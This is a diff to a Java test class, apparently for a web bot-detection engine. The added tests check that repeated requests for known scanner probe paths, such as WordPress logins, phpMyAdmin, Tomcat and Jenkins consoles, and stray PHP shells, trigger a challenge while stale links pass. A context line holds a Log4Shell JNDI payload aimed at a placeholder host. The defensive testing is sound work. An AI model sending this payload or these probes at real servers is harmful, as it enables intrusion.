@@ -406,6 +406,43 @@ class BuiltInSceneTests {
             assertThat(asks("GET", "/", BROWSER, null, 200)).isGreaterThanOrEqualTo(RiskAction.CHALLENGE);
         }
 
+        /** No site links to it, and nobody keeps a bookmark of it: each time counts. */
+        @ParameterizedTest
+        @ValueSource(
+                strings = {
+                    "GET /wp-login.php",
+                    "POST /xmlrpc.php",
+                    "GET /blog/wp-login.php /wordpress/wp-login.php",
+                    "GET /phpMyAdmin/",
+                    "GET /phpMyAdmin-4.8.1/index.php",
+                    "GET /manager/html",
+                    "GET /wls-wsat/CoordinatorPortType /_async/AsyncResponseService",
+                    "GET /HNAP1 /currentsetting.htm",
+                    "GET /cgi-bin/php /cgi-bin/php5",
+                    "GET /elrekt.php",
+                    "GET /jenkins/script /script",
+                    "GET /a2billing/admin/Public/index.php",
+                    "GET /muieblackcat",
+                    "GET /mysql/dbadmin/index.php /db/webadmin/",
+                    "GET /stalker_portal/c/version.js",
+                    "CONNECT /mail.example:25"
+                })
+        void isWhoeverAsksAgainForWhatNoSiteLinksTo(String requests) {
+            String[] words = requests.split(" ");
+            for (int i = 0; i < 2; i++) {
+                asks(words[0], words[1 + i % (words.length - 1)], BROWSER, "https://shop.example/", 404);
+                pause(2);
+            }
+            assertThat(asks("GET", "/", BROWSER, null, 200)).isEqualTo(RiskAction.CHALLENGE);
+        }
+
+        @Test
+        void isWhoeverPostsToScriptsThatAreNotThere() {
+            asks("POST", "/xw.php", BROWSER, null, 404);
+            asks("POST", "/wuwu11.php", BROWSER, "https://shop.example/wuwu11.php", 404);
+            assertThat(asks("GET", "/", BROWSER, null, 200)).isEqualTo(RiskAction.CHALLENGE);
+        }
+
         @Test
         void isWhoeverLooksForHolesByItsName() {
             String agent = "${jndi:ldap://198.51.100.7/a}";
@@ -427,6 +464,24 @@ class BuiltInSceneTests {
         void isNotWhoeverFollowsOddOrDeadLinks(String paths, int status) {
             for (String path : paths.split(" ")) {
                 asks("GET", path, BROWSER, "https://shop.example/", status);
+                pause(20);
+            }
+            assertThat(worst).isEqualTo(RiskAction.ALLOW);
+        }
+
+        /** A site that moved from WordPress, or from PHP; old bookmarks; programs that go on asking. */
+        @ParameterizedTest
+        @CsvSource({
+            "'/wp-content/uploads/2015/03/slides.pdf /downloads/tool-1.2.zip /old/page.php /console/ps3', true",
+            "'/wp-content/plugins/gallery/load.php /wp-content/themes/blue/map.php /wp-json/wp/v2/types', true",
+            "'/files/page.php /files/a.zip /tool-1.2.zip /tool-1.3.tar.gz /data/world.sql', false",
+            "'/actuator/health /actuator/health /actuator/health /actuator/health', false",
+            "'/owa/ /owa/ /owa/ /owa/', false",
+            "'/docs/.DS_Store /photos/.DS_Store /notes/.DS_Store', false"
+        })
+        void isNotWhoeverAsksForWhatWasThereOnce(String paths, boolean linked) {
+            for (String path : paths.split(" ")) {
+                asks("GET", path, BROWSER, linked ? "https://shop.example/archive" : null, 404);
                 pause(20);
             }
             assertThat(worst).isEqualTo(RiskAction.ALLOW);
